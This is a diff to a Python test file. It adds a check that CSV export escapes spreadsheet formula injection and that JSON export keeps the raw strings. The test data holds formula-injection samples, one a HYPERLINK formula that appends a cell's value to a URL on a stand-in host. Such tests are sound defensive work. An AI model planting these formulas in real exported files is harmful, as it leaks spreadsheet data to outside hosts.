@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import builtins
+from dataclasses import replace
 from typing import TYPE_CHECKING, Any
 
 import pandas as pd
@@ -42,6 +43,20 @@ def test_xlsx_has_texts_and_no_formulas(result: Result, tmp_path: Path) -> None:
     cells = [c for row in openpyxl.load_workbook(tmp_path / "r.xlsx").active.iter_rows() for c in row]
     assert any("391" in str(c.value) for c in cells)
     assert not any(c.data_type == "f" for c in cells)
+
+
+FORMULAS = ['=HYPERLINK("https://example.org/?"&A1)', "+1", "-1+1", "@SUM(1)", "\t=1", "- a list", "plain - text"]
+
+
+def test_csv_has_no_formulas(result: Result, tmp_path: Path) -> None:
+    rows = [replace(result.rows[0], text=text, repeat=number) for number, text in enumerate(FORMULAS)]
+    heads = [replace(head, label=f"=1+{number}") for number, head in enumerate(result.heads)]
+    path = Result(result.facts, heads, rows).save(tmp_path / "r.csv")
+    frame = pd.read_csv(path, keep_default_na=False)
+    assert frame["text"].tolist() == [*(f"'{text}" for text in FORMULAS[:-1]), "plain - text"]
+    assert frame["label"].tolist() == ["'=1+0"] * len(FORMULAS)
+    loaded = Result.load(Result(result.facts, heads, rows).save(tmp_path / "r.json"))
+    assert [row.text for row in loaded.rows] == FORMULAS
 
 
 @pytest.mark.parametrize("name", ["r.txt", "r.pkl", "r.tar.gz", "r.docx"])
